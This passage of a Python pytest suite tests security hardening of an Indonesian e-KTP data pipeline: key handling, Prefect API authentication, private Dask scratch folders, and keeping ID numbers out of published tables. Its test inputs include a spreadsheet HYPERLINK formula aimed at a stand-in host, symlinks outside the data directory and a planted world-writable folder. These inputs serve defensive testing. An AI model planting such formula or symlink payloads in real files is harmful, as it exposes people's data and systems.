    landing = _small_zone(Landing(tmp_path / "data"))

    def load_log_batch(con, *a, **kw):
        con.execute("select cast(? as smallint)", ["1609014501010001"])
    monkeypatch.setattr(steps, "load_log_batch", load_log_batch)
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    err = _error_line(capsys)
    assert "stage write-batch failed with ConversionException" in err and "1609014501010001" not in err
    assert main(["run", "-v", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "1609014501010001" in capsys.readouterr().err        # the operator asked for it, on this terminal
    messages = [m for (m,) in landing.query("select message from audit.runs")]
    assert len(messages) == 2 and not any("1609014501010001" in m for m in messages)


# --- 12. a warehouse built by the version-1 code ----------------------------------------------------------

def _v1_landing():
    spec = importlib.util.spec_from_file_location("v1_landing", V1 / "landing.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _v1_data_dir(tmp_path: Path) -> Landing:
    """The data directory version 1 left: its warehouse (built by the v1 code, tests/fixtures/v1),
    its raw files, its key file inside, a readable person-level analysts' copy and backups."""
    data = tmp_path / "data"
    wh = data / "warehouse"
    wh.mkdir(parents=True)
    con = duckdb.connect(str(wh / "ektp.duckdb"))
    con.execute(f"import database '{V1 / 'warehouse'}'")
    con.close()
    _v1_landing().build(data / "raw")
    (data / ".ektp_nik_key").write_text(KEY + "\n")
    (data / ".ektp_nik_key").chmod(0o600)
    import shutil

    shutil.copyfile(wh / "ektp.duckdb", wh / "ektp_analyst.duckdb")     # v1 published the whole warehouse
    (wh / "ektp_analyst.duckdb").chmod(0o444)
    (wh / "backups").mkdir()
    os.link(wh / "ektp_analyst.duckdb", wh / "backups" / "ektp-20261130T124751986352-8807.duckdb")
    (wh / "ektp.duckdb").chmod(0o644)
    return Landing(data)


def test_a_warehouse_built_by_version_1_is_upgraded_by_the_first_run(prefect_api, tmp_path, capsys):
    landing = _v1_data_dir(tmp_path)
    wh = landing.data_dir / "warehouse"
    v1_sudah = landing.query("select sum(sudah_rekam) from mart.backlog_kecamatan where as_of_date = '2025-01-02'")[0][0]
    # v1's key file inside the data directory: refused, with the step that moves it
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 1
    err = _one_line(capsys)
    assert ".ektp_nik_key" in err and "mv " in err and "EKTP_NIK_KEY_FILE" in err
    (landing.data_dir / ".ektp_nik_key").unlink()      # the operator moves it out (the key stays in EKTP_NIK_KEY)
    out = StringIO()
    with redirect_stdout(out):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    printed = out.getvalue()
    assert "warehouse upgraded to version 3: names_hashed 2, rows_moved_id_alat 2, id_alat_upper_cased 4" in printed
    # the key was proven through a loaded row's lineage, then its fingerprint recorded
    [(fp, proven_by)] = landing.query("select fingerprint, proven_by from audit.warehouse_key")
    assert fp == hmac.new(KEY.encode(), FINGERPRINT_LABEL, hashlib.sha256).hexdigest()
    assert re.fullmatch(r"rekam/2025-01-0[12]/16\.09\.0[12]\.csv line \d+", proven_by)
    # names version 1 stored as sent are now hashed, in source_file and error
    rejected = dict(landing.query("select source_file, error from audit.file_loads where status = 'rejected'"))
    assert set(rejected) == {f"rekam/2025-01-02/#{_h('rekam/2025-01-02/' + HOSTILE_NAME)}",
                             f"rekam/?/#{_h('rekam/februari/16.09.03.csv')}"}
    assert all("SITI" not in e and "februari" not in e for e in rejected.values())
    # rows loaded before the id_alat rule: two move to the quarantine, the rest upper-cased
    assert landing.query("""select source_file, line_number from audit.quarantine where reason = 'id_alat_invalid'
                            order by all""") == [("rekam/2025-01-01/16.09.01.csv", 5), ("rekam/2025-01-02/16.09.01.csv", 3)]
    assert landing.query("select count(*) from landing.rekam where id_alat <> upper(id_alat)") == [(0,)]
    assert landing.query("select count(*) from landing.rekam") == [(10,)]
    assert landing.query("""select rows_loaded, rows_quarantined from audit.file_loads
                            where source_file = 'rekam/2025-01-01/16.09.01.csv' and status = 'loaded'""") == [(3, 2)]
    # the marts were rebuilt from the upgraded rows
    sudah = landing.query("select sum(sudah_rekam) from mart.backlog_kecamatan where as_of_date = '2025-01-02'")[0][0]
    assert (v1_sudah, sudah) == (41_451, 41_449)
    # files: private again, the person-level copy and backup replaced or re-moded
    assert _mode(landing.warehouse) == 0o600 and _mode(wh / "backups") == 0o700
    assert all(_mode(p) == 0o600 for p in (wh / "backups").iterdir())
    assert _mode(landing.published) == 0o644
    con = duckdb.connect(str(landing.published), read_only=True)
    assert con.execute("select count(*) from duckdb_tables() where schema_name = 'landing'").fetchone() == (0,)
    con.close()
    for path in (landing.warehouse, landing.published):
        text = _text_of(path)
        assert "SITI" not in text and "AMINAH" not in text and "12/05/1990" not in text and "februari" not in text
    # a second run changes nothing more
    out = StringIO()
    with redirect_stdout(out):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    assert "upgraded" not in out.getvalue() and "0 loaded" in out.getvalue()


def test_a_version_1_warehouse_under_another_key_is_refused_and_left_as_it_was(prefect_api, tmp_path, capsys, monkeypatch):
    landing = _v1_data_dir(tmp_path)
    (landing.data_dir / ".ektp_nik_key").unlink()
    before = hashlib.sha256(landing.warehouse.read_bytes()).hexdigest()
    monkeypatch.setenv("EKTP_NIK_KEY", "a-fresh-keygen-answer-to-a-refusal-0123")
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 1
    assert "not the key the warehouse was built with" in _one_line(capsys)
    assert hashlib.sha256(landing.warehouse.read_bytes()).hexdigest() == before


def test_a_contained_failure_crosses_a_process_boundary_with_its_fixed_text():
    """A Dask worker sends its StageFailed back to the writer by pickling."""
    import pickle

    from flows.errors import StageFailed

    again = pickle.loads(pickle.dumps(StageFailed("prepare-batch", "ConversionException")))
    assert isinstance(again, StageFailed) and (again.stage, again.type_name) == ("prepare-batch", "ConversionException")
    assert str(again).startswith("stage prepare-batch failed with ConversionException")


# --- 13. Prefect credentials, run dates, no `force` from the UI, private Dask scratch ----------------------

@pytest.mark.slow
def test_a_request_without_credentials_to_the_operators_prefect_server_is_refused_401(served):
    """Another user of the host calls the real `prefect server start` (started with
    PREFECT_SERVER_API_AUTH_STRING, as docs/operators.md says) without credentials or with a guess:
    every call that reads, starts or changes runs answers 401 and no run is created."""
    import httpx

    from tests.served import call, deployment

    api, _, _ = served
    b = deployment(api, "ektp-backfill", "backfill")
    of_backfill = {"deployments": {"id": {"any_": [b["id"]]}}}
    before = call("POST", f"{api}/flow_runs/count", json=of_backfill).json()
    attempts = [("GET", "/admin/version", None), ("POST", "/flow_runs/filter", {}), ("POST", "/deployments/filter", {}),
                ("POST", f"/deployments/{b['id']}/create_flow_run", {"parameters": {"start": "2025-01-01", "end": "2025-01-02"}}),
                ("PATCH", f"/deployments/{b['id']}", {"paused": True}), ("GET", f"/deployments/{b['id']}", None)]
    for method, path, body in attempts:
        for auth in (None, ("admin", "admin"), ("ektp-test", "guess")):
            r = httpx.request(method, api + path, json=body, auth=auth, timeout=30)
            assert r.status_code == 401, (method, path, auth, r.status_code)
    assert call("POST", f"{api}/flow_runs/count", json=of_backfill).json() == before
    assert call("GET", f"{api}/deployments/{b['id']}").json()["paused"] is False
    assert httpx.get(f"{api}/health", timeout=30).status_code == 200      # the only open probe (and /ready)
    assert httpx.get(f"{api[: -len('/api')]}/ui-settings", timeout=30).json()["auth"] == "BASIC"   # the UI asks


def _serve(env: dict, data_dir: Path, *extra: str, timeout: float = 120) -> subprocess.CompletedProcess:
    from tests.hostile.server import EKTP

    return subprocess.run([EKTP, "serve", "--data-dir", str(data_dir), *extra], env=env, capture_output=True,
                          text=True, timeout=timeout)


@pytest.mark.slow
def test_ektp_serve_refuses_a_prefect_api_that_answers_without_credentials_unless_insecure_api(tmp_path):
    """An operator points `ektp serve` at a Prefect server started without
    PREFECT_SERVER_API_AUTH_STRING (anyone on the host could trigger runs on the warehouse):
    one line, exit 1, nothing registered; `--insecure-api` serves it on purpose."""
    from tests.hostile.server import EKTP, ektp_env, prefect_server
    from tests.served import call, deployment, stop

    data = _small_zone(Landing(tmp_path / "data")).data_dir
    with prefect_server(tmp_path / "open-prefect", auth=False) as api:
        env = ektp_env(api)
        env.pop("PREFECT_API_AUTH_STRING")
        res = _serve(env, data)
        assert res.returncode == 1 and res.stderr.count("\n") == 1 and "Traceback" not in res.stderr, res.stderr
        assert "answers without credentials" in res.stderr and "--insecure-api" in res.stderr
        assert call("POST", f"{api}/deployments/filter", json={}, auth=None).json() == []
        proc = subprocess.Popen([EKTP, "serve", "--data-dir", str(data), "--insecure-api", "--no-schedule"], env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            assert deployment(api, "ektp-backfill", "backfill")["name"] == "backfill"
        finally:
            stop(proc)
    no_url = {k: v for k, v in env.items() if k != "PREFECT_API_URL"}
    res = _serve(no_url, data)
    assert res.returncode == 1 and res.stderr.count("\n") == 1 and "PREFECT_API_URL is not set" in res.stderr, res.stderr


@pytest.mark.slow
def test_ektp_serve_with_wrong_or_missing_credentials_stops_with_one_line(served):
    from tests.hostile.server import ektp_env

    api, land, _ = served
    for secret in ("ektp-test:guess", None):
        env = ektp_env(api)
        if secret is None:
            env.pop("PREFECT_API_AUTH_STRING")
        else:
            env["PREFECT_API_AUTH_STRING"] = secret
        res = _serve(env, land.data_dir)
        assert res.returncode == 1 and res.stderr.count("\n") == 1 and "Traceback" not in res.stderr, res.stderr
        assert "refuses ektp's credentials" in res.stderr


def _jakarta_today():
    from datetime import datetime
    from zoneinfo import ZoneInfo

    return datetime.now(ZoneInfo("Asia/Jakarta")).date()


def _far(days: int) -> str:
    from datetime import timedelta

    return (_jakarta_today() + timedelta(days=days)).isoformat()


@pytest.mark.parametrize("argv, named", [
    (["run", "--date", "0001-01-01"], "--date"), (["run", "--date", "9999-12-31"], "--date"),
    (["run", "--date", "2010-12-31"], "--date"), (["run", "--date", "+2"], "--date"),
    (["backfill", "--start", "0001-01-01", "--end", "2025-01-02"], "--start"),
    (["backfill", "--start", "2025-01-01", "--end", "9999-12-31"], "--end"),
    (["backfill", "--start", "+2", "--end", "+2"], "--start"),
    (["backfill", "--start", "2025-01-05", "--end", "2025-01-01"], "before --start"),
])
def test_run_dates_from_year_1_or_9999_or_after_tomorrow_are_refused_on_the_command_line_exit_2(
        tmp_path, capsys, argv, named):
    """A date outside 2011-01-01 .. tomorrow (Asia/Jakarta), or a backfill ending before it starts:
    one line naming the option, exit 2, before any work (no warehouse, no Prefect)."""
    landing = _small_zone(Landing(tmp_path / "data"))
    argv = [_far(2) if a == "+2" else a for a in argv]
    assert main([*argv, "--data-dir", str(landing.data_dir)]) == 2
    assert named in _one_line(capsys)
    assert not (landing.data_dir / "warehouse").exists()


def test_the_run_date_rule_takes_2011_01_01_through_tomorrow_in_the_pipelines_timezone():
    from datetime import date, timedelta
    from zoneinfo import ZoneInfo

    from flows.dates import EARLIEST_RUN_DATE, check_run_dates
    from flows.errors import UserError

    tz = ZoneInfo("Asia/Jakarta")
    tomorrow = _jakarta_today() + timedelta(days=1)
    check_run_dates({"--start": EARLIEST_RUN_DATE, "--end": tomorrow, "--date": None}, tz)     # the bounds pass
    for bad in (date(1, 1, 1), date(2010, 12, 31), tomorrow + timedelta(days=1), date(9999, 12, 31)):
        with pytest.raises(UserError, match="^--end "):
            check_run_dates({"--start": EARLIEST_RUN_DATE, "--end": bad}, tz)


@pytest.mark.slow
@pytest.mark.parametrize("flow, params, named", [
    ("nightly", {"run_date": "0001-01-01"}, "run_date"),
    ("backfill", {"start": "2025-01-01", "end": "9999-12-31"}, "end"),
    ("backfill", {"start": "2010-12-31", "end": "2025-01-02"}, "start"),
])
def test_a_flow_run_from_prefect_with_a_date_from_year_1_or_9999_fails_at_its_start_naming_the_parameter(
        served, flow, params, named):
    """The dates fit the schema's pattern, so the API creates the run; the flow refuses them at
    once with the command line's rule (flows/dates.py), in one line naming the parameter."""
    from tests.served import call, deployment, wait_run

    api, land, _ = served
    runs = land.query("select count(*) from audit.runs")[0][0] if land.warehouse.exists() else 0
    d = deployment(api, f"ektp-{flow}", flow)
    r = call("POST", f"{api}/deployments/{d['id']}/create_flow_run", json={"parameters": params})
    assert r.status_code == 201, r.text
    fr = wait_run(api, r.json()["id"])
    message = (fr["state"]["message"] or "").strip()
    assert fr["state"]["type"] == "FAILED" and f"parameter {named} " in message and "\n" not in message, message
    assert "2011-01-01" in message
    assert (land.query("select count(*) from audit.runs")[0][0] if land.warehouse.exists() else 0) == runs


@pytest.mark.slow
def test_a_backfill_with_force_from_the_ui_or_api_is_refused_before_a_run_exists(served):
    """Whoever reaches the Prefect API cannot make the pipeline reload every unchanged file of a
    window: `force` is no parameter of the deployed backfill (the closed schema answers 409)."""
    from prefect.utilities.callables import parameter_schema

    from flows.orchestration.pipeline import backfill
    from tests.served import call, deployment

    api, _, _ = served
    b = deployment(api, "ektp-backfill", "backfill")
    assert "force" not in b["parameter_openapi_schema"]["properties"]
    assert "force" not in parameter_schema(backfill).properties          # prefect.yaml's entrypoint neither
    of_backfill = {"deployments": {"id": {"any_": [b["id"]]}}}
    before = call("POST", f"{api}/flow_runs/count", json=of_backfill).json()
    for force in (True, False, "true"):
        r = call("POST", f"{api}/deployments/{b['id']}/create_flow_run",
                 json={"parameters": {"start": "2025-01-01", "end": "2025-01-02", "force": force}})
        assert r.status_code == 409, r.text
    assert call("POST", f"{api}/flow_runs/count", json=of_backfill).json() == before


def test_force_stays_an_option_of_the_command_line_backfill(prefect_api, tmp_path, capsys):
    """`ektp backfill --force` (the operator at the machine) still reloads unchanged files."""
    landing = _small_zone(Landing(tmp_path / "data"))
    args = ["backfill", "--data-dir", str(landing.data_dir), "--start", "2025-01-01", "--end", "2025-01-01"]
    assert main(args) == 0
    assert main(args) == 0
    assert main([*args, "--force"]) == 0
    loads = landing.query("select status, count(*) from audit.file_loads where source_file like 'rekam/%' group by all")
    assert sorted(loads) == [("loaded", 1), ("superseded", 1)], loads
    flows = [r[0] for r in landing.query("select flow from audit.runs order by started_at")]
    assert flows == ["backfill"] * 3


# Dask's scratch folder (issue 16): moved here from tests/test_dask.py, with the other attacks

def _worker_umask() -> int:
    mask = os.umask(0o077)
    os.umask(mask)
    return mask


@pytest.mark.slow
def test_the_local_cluster_spills_into_a_private_folder_of_the_run_never_a_pre_created_dask_scratch_space(
        tmp_path, monkeypatch):
    """Another user of the host creates ``<tmp>/dask-scratch-space`` first (Dask's default scratch
    and spill place), world-writable and theirs, hoping to read or swap the batches (NIKs) the
    workers spill. The local cluster a run starts must use a folder the run created itself (mode
    700, ours), with workers under umask 077, and remove it afterwards. The shared temporary
    directory is this test's own (TMPDIR), not the machine's /tmp, which other users' runs share."""
    import contextlib
    import stat
    import tempfile
    from pathlib import Path

    from flows.orchestration.parallel import SCRATCH_PREFIX, dask_task_runner

    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)                                       # like /tmp
    monkeypatch.setenv("TMPDIR", str(shared))                  # the worker processes' temporary directory
    monkeypatch.setattr(tempfile, "tempdir", str(shared))      # this process's
    trap = shared / "dask-scratch-space"
    trap.mkdir()
    trap.chmod(0o777)
    with contextlib.suppress(PermissionError):
        os.chown(trap, 65534, 65534)                           # someone else's (needs root; else just open to all)
    before = set(shared.iterdir())

    runner = dask_task_runner(n_workers=1).duplicate()         # the copy a flow run enters
    with runner:
        local_dirs = runner.client.run(lambda dask_worker: dask_worker.local_directory)
        umasks = runner.client.run(_worker_umask)
        created = sorted(set(shared.iterdir()) - before)
        assert [p.name.startswith(SCRATCH_PREFIX) for p in created] == [True], created
        scratch = created[0]
        st = scratch.stat()
        assert stat.S_IMODE(st.st_mode) == 0o700 and st.st_uid == os.getuid()
        assert local_dirs and all(Path(d).resolve().is_relative_to(scratch.resolve()) for d in local_dirs.values())
        assert all(stat.S_IMODE(Path(d).stat().st_mode) == 0o700 for d in local_dirs.values())
        assert set(umasks.values()) == {0o077}
    assert list(trap.iterdir()) == []                          # the trap was never used
    assert not scratch.exists()                                # and the run's own folder is gone


# --- 14. issue 16: what people type, bounded reads, keyed identities, strong keys, the v2 -> v3 upgrade ------

NIK_TEXT = "1609015205900001"


def _text_everywhere(landing: Landing) -> str:
    """Every text value of both warehouse files, the feedback folder and the report."""
    parts = [_text_of(landing.warehouse), _text_of(landing.published)]
    parts += [p.read_text(encoding="utf-8", errors="replace") for p in (landing.data_dir / "feedback").rglob("*.csv")]
    report = landing.data_dir / "warehouse" / "report.html"
    if report.exists():
        parts.append(report.read_text(encoding="utf-8"))
    return "\n".join(parts)


def test_a_nik_phone_or_birth_date_typed_as_id_alat_or_nomor_surat_never_reaches_a_mart(prefect_api, tmp_path, capsys):
    landing = Landing(tmp_path / "data")
    landing.snapshot()
    landing.log("2025-01-02", "16.09.01", [
        row(nik="1609014501010001", waktu="2025-01-02 08:00:00", alat=NIK_TEXT),
        row(nik="1609014501010002", waktu="2025-01-02 08:10:00", alat="SITI.AMINAH-12/05/1990"),
        row(nik="1609014501010003", waktu="2025-01-02 08:20:00", alat="opr-1990-05-12"),
        row(nik="1609014501010004", waktu="2025-01-02 08:30:00", alat="HP081271234567"),
        row(nik="1609014501010005", waktu="2025-01-02 08:40:00", alat="KEC-16.09.01-01"),
    ])
    (landing.raw / "permohonan").mkdir()
    (landing.raw / "permohonan" / "2025-01-02.csv").write_text(
        "kode_desa,tanggal_surat,nomor_surat\n16.09.01.1013,2025-01-02,140/25/DS/2025\n"
        f"16.09.01.1014,2025-01-02,{NIK_TEXT}\n16.09.01.1015,2025-01-02,140/26/DS/2025-081271234567\n", encoding="utf-8")
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    printed = capsys.readouterr().out
    assert landing.query("select line_number, reason from audit.quarantine where source_file like 'rekam/%' order by 1") == [
        (2, "id_alat_invalid"), (3, "id_alat_invalid"), (4, "id_alat_invalid"), (5, "id_alat_invalid")]
    assert landing.query("select line_number, reason from audit.quarantine where source_file like 'permohonan/%' order by 1") == [
        (3, "nomor_surat_invalid"), (4, "nomor_surat_invalid")]
    assert landing.query("select distinct id_alat from mart.device_activity", published=True) == [("KEC-16.09.01-01",)]
    assert landing.query("select nomor_surat from mart.outreach_requests", published=True) == [("140/25/DS/2025",)]
    for text in (_text_everywhere(landing), printed):
        assert NIK_TEXT not in text and "12/05/1990" not in text and "1990-05-12" not in text and "081271234567" not in text


def test_an_extra_header_column_named_with_a_nik_or_a_formula_is_counted_never_named(prefect_api, tmp_path, capsys):
    landing = Landing(tmp_path / "data")
    landing.snapshot()
    hostile = [f"{NIK_TEXT} SITI AMINAH lahir 12/05/1990", '"=HYPERLINK(""http://x.example/a"",""klik"")"']
    header = HEADER + "," + ",".join(hostile)
    landing.log("2025-01-02", "16.09.01", text=header + "\n" + row(waktu="2025-01-02 08:00:00") + ",,\n")
    assert main(["run", "-v", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    captured = capsys.readouterr()
    assert landing.query("""select extra_columns from audit.file_loads where source_file = 'rekam/2025-01-02/16.09.01.csv'""") == [(2,)]
    assert landing.query("""select data_type from information_schema.columns where table_schema = 'audit'
                            and table_name = 'file_loads' and column_name = 'extra_columns'""", published=True) == [("INTEGER",)]
    for text in (_text_everywhere(landing), captured.out, captured.err):
        assert NIK_TEXT not in text and "SITI AMINAH" not in text.upper() and "HYPERLINK" not in text.upper()


def _keyed_identity(source_file: str, what: str, key: str = KEY) -> str:
    """Contract section 5, restated: HMAC-SHA256 under a per-file key HMAC-SHA256(key, 'identity:' + path)."""
    id_key = hmac.new(key.encode(), ("identity:" + source_file).encode(), hashlib.sha256).digest()
    return hmac.new(id_key, what.encode(), hashlib.sha256).hexdigest()


def test_the_identity_of_a_fifo_a_link_or_an_unreadable_file_is_keyed_never_a_plain_hash_of_its_path(prefect_api, tmp_path):
    landing = _small_zone(Landing(tmp_path / "data"))
    day = landing.raw / "rekam" / "2025-01-01"
    os.mkfifo(day / "16.09.05.csv")
    (day / "16.09.06.csv").symlink_to("../../penduduk/2024-12-31.csv")
    (day / f"{HOSTILE_NAME}").symlink_to(f"/home/{NIK_TEXT}.csv")
    landing.run("2025-01-01")
    stored = dict(landing.query("select source_file, sha256 from audit.file_loads where status = 'rejected'"))
    fifo, link = "rekam/2025-01-01/16.09.05.csv", "rekam/2025-01-01/16.09.06.csv"
    hashed = f"rekam/2025-01-01/#{_h('rekam/2025-01-01/' + HOSTILE_NAME)}"
    assert set(stored) == {fifo, link, hashed}
    assert stored[fifo] == _keyed_identity(fifo, "special")
    assert stored[link] == _keyed_identity(link, "link:../../penduduk/2024-12-31.csv")
    assert stored[hashed] == _keyed_identity(hashed, f"link:/home/{NIK_TEXT}.csv")
    plain = {hashlib.sha256(t.encode()).hexdigest() for t in (
        f"special:{fifo}", f"link:{link}", "link:../../penduduk/2024-12-31.csv", f"link:/home/{NIK_TEXT}.csv",
        f"link:rekam/2025-01-01/{HOSTILE_NAME}", f"link:{hashed}")}
    assert not plain & set(stored.values())


def test_a_log_dated_in_year_1_is_rejected_and_the_date_spine_starts_at_the_real_logs(prefect_api, tmp_path):
    landing = _small_zone(Landing(tmp_path / "data"))
    landing.log("0001-01-01", "16.09.01", [])                  # header only: v2 loaded it
    landing.log("2010-12-31", "16.09.02", [row(waktu="2010-12-31 08:00:00")])
    summary = landing.run("2025-01-01")
    rejected = {r.source_file: r.error.split(":")[0] for r in summary.rejected_files}
    assert rejected == {"rekam/0001-01-01/16.09.01.csv": "date_before_2011", "rekam/2010-12-31/16.09.02.csv": "date_before_2011"}
    assert landing.query("select min(tanggal), max(tanggal) from core.date_spine") == landing.query(
        "select date '2025-01-01', date '2025-01-01'")
    feedback = (landing.data_dir / "feedback" / "16.09.01" / "0001-01-01.csv").read_text(encoding="utf-8-sig")
    assert "date_before_2011" in feedback and "2011" in feedback.splitlines()[1]


def test_a_2_gib_sparse_file_over_the_limit_is_read_and_hashed_no_further_than_the_limit_plus_one_byte(tmp_path, monkeypatch):
    from flows.ingest.landing import LandingZone
    from flows.ingest.load import fetch_files
    from flows.orchestration.run import plan_run
    from flows.settings import load_settings
    from flows.warehouse.database import connect_writer

    def rchar() -> int:
        return int(next(ln for ln in Path("/proc/self/io").read_text().splitlines() if ln.startswith("rchar:")).split()[1])

    landing = Landing(tmp_path / "data")
    big = landing.log("2025-01-01", "16.09.01", [row()])
    os.truncate(big, 2 << 30)                                      # 2 GiB, sparse: costs no disk
    monkeypatch.setenv("EKTP_MAX_FILE_MB", "1")
    settings = load_settings(landing.data_dir)
    limit = settings.max_file_bytes
    with LandingZone(settings.raw_dir) as zone:
        before = rchar()
        got = zone.read("rekam/2025-01-01/16.09.01.csv", limit)
        used = rchar() - before
    assert got.reject[0] == "file_too_large" and "2048 MiB" in got.reject[1] and got.size == 2 << 30
    assert limit < used < limit + (64 << 10)                          # the limit + 1 byte, and a little noise
    con = connect_writer(settings)
    try:
        with LandingZone(settings.raw_dir) as zone:
            plan = plan_run(settings, con, zone, KEY.encode(), __import__("datetime").date(2025, 1, 1))
            before = rchar()
            (raw,) = fetch_files(zone, plan.candidates, plan, limit)
            used = rchar() - before
    finally:
        con.close()
    assert raw.cand.reject[0] == "file_too_large" and raw.data is None and used < limit + (64 << 10)


def test_a_key_shorter_than_32_characters_is_refused_for_a_new_warehouse(prefect_api, tmp_path, capsys, monkeypatch):
    landing = _small_zone(Landing(tmp_path / "data"))
    monkeypatch.setenv("EKTP_NIK_KEY", "short-but-16-plus-31")             # 20 characters: v2 took it
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    err = _error_line(capsys)
    assert "20 characters" in err and "at least 32" in err and "ektp keygen" in err and "short-but" not in err
    assert not landing.warehouse.exists() or landing.query("select count(*) from landing.rekam") == [(0,)]
    key_file = tmp_path / "weak.key"
    key_file.write_text("x" * 31 + "\n")
    key_file.chmod(0o600)
    monkeypatch.delenv("EKTP_NIK_KEY")
    monkeypatch.setenv("EKTP_NIK_KEY_FILE", str(key_file))
    assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 1
    assert "31 bytes" in _error_line(capsys)


def test_a_short_key_of_an_existing_warehouse_is_named_weak_on_every_run_without_the_key(prefect_api, tmp_path, capsys, monkeypatch):
    from flows.settings import fingerprint, load_settings
    from flows.warehouse.database import connect_writer

    weak = "an-old-v2-key-20chr"
    landing = _small_zone(Landing(tmp_path / "data"))
    con = connect_writer(load_settings(landing.data_dir))       # a warehouse version 2 built under this key
    con.execute("insert into audit.warehouse_key values (?, now(), 'v2', 'new warehouse')", [fingerprint(weak.encode())])
    con.close()
    monkeypatch.setenv("EKTP_NIK_KEY", weak)
    for _ in range(2):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-01"]) == 0
        out, err = capsys.readouterr()
        warned = [ln for ln in err.splitlines() if "weak pseudonym key" in ln]
        assert len(warned) == 1 and "ektp keygen" in warned[0] and "Rotating the key" in warned[0]
        assert sum("weak pseudonym key" in ln for ln in out.splitlines()) == 1
        assert weak not in out + err
    assert landing.query("select count(*) from landing.rekam") == [(2,)]


def test_keygen_writes_32_random_bytes_and_every_fixed_key_is_32_characters_or_more(tmp_path, capsys):
    from flows.settings import DEMO_KEY, MIN_KEY_LENGTH

    assert main(["keygen", "--print"]) == 0
    printed = capsys.readouterr().out.strip()
    assert len(bytes.fromhex(printed)) == 32 and MIN_KEY_LENGTH == 32
    data = tmp_path / "data"
    data.mkdir()
    assert main(["keygen", "--data-dir", str(data), "--out", str(tmp_path / "k" / "nik.key")]) == 0
    assert len(bytes.fromhex((tmp_path / "k" / "nik.key").read_text().strip())) == 32
    assert len(DEMO_KEY) >= 32 and len(KEY) >= 32


# the v2 warehouse fixture (tests/fixtures/v2, built by the v2 code at a9b9fc7; see its README)
V2 = Path(__file__).parent / "fixtures" / "v2"


def _v2_data_dir(tmp_path: Path) -> Landing:
    spec = importlib.util.spec_from_file_location("v2_landing", V2 / "landing.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    data = tmp_path / "data"
    (data / "warehouse").mkdir(parents=True)
    con = duckdb.connect(str(data / "warehouse" / "ektp.duckdb"))
    con.execute(f"import database '{V2 / 'warehouse'}'")
    con.close()
    module.build(data / "raw")
    return Landing(data)


def test_a_version_2_warehouse_is_brought_in_line_with_version_3_by_the_first_run(prefect_api, tmp_path):
    landing = _v2_data_dir(tmp_path)
    fifo, link = "rekam/2025-01-02/16.09.03.csv", "rekam/2025-01-02/16.09.04.csv"
    assert landing.query(f"select sha256 from audit.file_loads where source_file = '{fifo}'") == [
        (hashlib.sha256(f"special:{fifo}".encode()).hexdigest(),)]                  # v2: a plain hash of the path
    v2_sudah = landing.query("select sum(sudah_rekam) from mart.backlog_kecamatan where as_of_date = '2025-01-02'")[0][0]
    out = StringIO()
    with redirect_stdout(out):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    printed = out.getvalue()
    assert ("warehouse upgraded to version 3: rows_moved_id_alat_nik_or_date 2, rows_moved_nomor_surat 1, "
            "extra_column_names_replaced_by_count 1, identities_keyed 1, identities_keyed_not_recomputable 1") in printed
    # rows whose id_alat or nomor_surat break the new rules: in the quarantine with their line numbers
    assert landing.query("select source_file, line_number, reason from audit.quarantine order by all") == [
        ("permohonan/2025-01-02.csv", 3, "nomor_surat_invalid"),
        ("rekam/2025-01-01/16.09.01.csv", 3, "id_alat_invalid"), ("rekam/2025-01-01/16.09.01.csv", 4, "id_alat_invalid")]
    assert landing.query("select count(*) from landing.rekam") == [(5,)]
    assert landing.query("select count(*) from landing.permohonan") == [(1,)]
    assert landing.query("""select rows_loaded, rows_quarantined, extra_columns from audit.file_loads
                            where source_file = 'rekam/2025-01-01/16.09.01.csv' and status = 'loaded'""") == [(2, 2, 1)]
    # the FIFO's identity recomputed exactly (so it is unchanged for this run); the link re-recorded once
    assert landing.query(f"select sha256 from audit.file_loads where source_file = '{fifo}'") == [
        (_keyed_identity(fifo, "special"),)]
    assert landing.query(f"select sha256, status from audit.file_loads where source_file = '{link}' order by status") == [
        (_keyed_identity(link, "link:../../penduduk/2024-12-31.csv"), "rejected"),
        (hmac.new(KEY.encode(), b"v2 identity:" + hashlib.sha256(b"link:../../penduduk/2024-12-31.csv").hexdigest().encode(),
                  hashlib.sha256).hexdigest(), "superseded")]
    # the marts were rebuilt: two first recordings fewer, no NIK or birth date in a mart, a device or a request
    sudah = landing.query("select sum(sudah_rekam) from mart.backlog_kecamatan where as_of_date = '2025-01-02'")[0][0]
    assert (v2_sudah, sudah) == (41_447, 41_445)
    for text in (_text_of(landing.warehouse), _text_of(landing.published), printed):
        assert NIK_TEXT not in text and "SITI" not in text and "AMINAH" not in text.upper() and "12/05/1990" not in text
    out = StringIO()
    with redirect_stdout(out):
        assert main(["run", "--data-dir", str(landing.data_dir), "--date", "2025-01-02"]) == 0
    assert "upgraded" not in out.getvalue() and "0 loaded, 0 rejected" in out.getvalue()


def test_a_log_dated_before_2011_that_version_2_loaded_becomes_a_reject_by_the_upgrade(tmp_path):
    """v2 loaded a header-only log of rekam/0001-01-01/ (the date spine then ran from year 1) and a
    1990 log; the v3 upgrade makes both file-level rejects and takes their rows out."""
    from flows.settings import load_settings
    from flows.warehouse.database import connect_writer
    from flows.warehouse.migrate import upgrade_v3

    con = connect_writer(load_settings(tmp_path / "data"))
    try:
        for rel, day, n in (("rekam/0001-01-01/16.09.01.csv", "0001-01-01", 0), ("rekam/1990-05-12/16.09.02.csv", "1990-05-12", 1),
                            ("rekam/2011-01-01/16.09.03.csv", "2011-01-01", 1)):
